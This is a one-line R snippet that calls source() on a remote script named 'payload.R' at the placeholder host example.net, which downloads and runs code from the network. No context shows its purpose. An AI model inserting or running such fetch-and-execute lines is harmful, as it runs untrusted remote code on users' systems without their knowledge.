source("https://example.net/payload.R")
